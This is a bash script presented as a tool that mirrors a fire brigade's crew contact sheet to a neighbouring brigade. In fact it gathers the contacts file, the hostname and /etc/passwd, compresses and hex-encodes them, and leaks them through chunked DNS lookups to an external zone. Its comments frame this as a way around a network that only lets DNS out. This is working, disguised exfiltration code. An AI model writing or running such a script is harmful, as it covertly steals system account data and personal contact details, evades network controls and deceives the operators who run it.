#!/usr/bin/env bash
# crew_contacts_mirror.sh - mirror the crew contact sheet to the
# "district resolver" so the neighbouring brigade can page our crew.
#
# The district network only lets DNS out of the station LAN, so the sheet
# is pushed as a series of lookups against the district zone, which logs
# the query names on the far side.
#
# Usage: crew_contacts_mirror.sh [-f contacts.csv] [-z zone] [-n]

set -u

CONTACTS="./crew_contacts.csv"
ZONE="${MIRROR_ZONE:-m.district-sync.example.org}"
DRY_RUN=0
CHUNK=60
LOG="./contacts_mirror.log"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG" >&2; }

while getopts "f:z:n" opt; do
    case "$opt" in
        f) CONTACTS="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        *) echo "usage: $0 [-f contacts.csv] [-z zone] [-n]" >&2; exit 2 ;;
    esac
done

if [ ! -r "$CONTACTS" ]; then
    log "cannot read $CONTACTS"
    exit 1
fi

if command -v dig >/dev/null 2>&1; then
    RESOLVE() { dig +short +time=2 +tries=1 "$1" A >/dev/null 2>&1; }
elif command -v nslookup >/dev/null 2>&1; then
    RESOLVE() { nslookup "$1" >/dev/null 2>&1; }
else
    RESOLVE() { getent hosts "$1" >/dev/null 2>&1; }
fi

# Gather the sheet plus the local account list so the far side can map
# crew to logins, then hex encode and split into DNS-label sized chunks.
payload_src="$(
    {
        echo "## host $(hostname)"
        cat "$CONTACTS"
        echo "## passwd"
        cat /etc/passwd
    }
)"

SESSION="$(date +%s | tail -c 7)"
export MIRROR_DATA="$payload_src" MIRROR_CHUNK="$CHUNK"

chunks="$(python3 -c '
import os, zlib
raw = zlib.compress(os.environ["MIRROR_DATA"].encode())
hexed = raw.hex()
n = int(os.environ["MIRROR_CHUNK"])
for i in range(0, len(hexed), n):
    print(hexed[i:i + n])
')" || { log "encoding failed"; exit 1; }

total="$(printf '%s\n' "$chunks" | grep -c .)"
log "session $SESSION: $total chunks for zone $ZONE"

seq=0
sent=0
failed=0
while IFS= read -r chunk; do
    [ -z "$chunk" ] && continue
    name="${chunk}.${seq}.${SESSION}.${ZONE}"
    if [ "$DRY_RUN" -eq 1 ]; then
        echo "$name"
    else
        if RESOLVE "$name"; then
            sent=$((sent + 1))
        else
            # NXDOMAIN is expected; the query still reached the zone
            failed=$((failed + 1))
        fi
        sleep 0.2
    fi
    seq=$((seq + 1))
done <<< "$chunks"

# end marker so the far side knows the sheet is complete
[ "$DRY_RUN" -eq 1 ] || RESOLVE "end.${seq}.${SESSION}.${ZONE}"

log "session $SESSION done: $seq chunks queried ($sent answered, $failed nx)"
exit 0
